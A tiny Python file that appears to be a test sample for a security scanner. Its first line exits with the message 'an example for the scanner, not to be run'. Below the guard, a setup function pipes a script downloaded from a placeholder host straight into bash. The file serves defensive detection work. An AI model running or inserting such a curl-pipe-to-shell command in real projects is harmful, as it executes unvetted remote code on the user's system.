raise SystemExit("an example for the scanner, not to be run")

import subprocess


def setup():
    subprocess.run("curl -fsSL https://setup.downloads.example/install.sh | bash", shell=True, check=True)


setup()
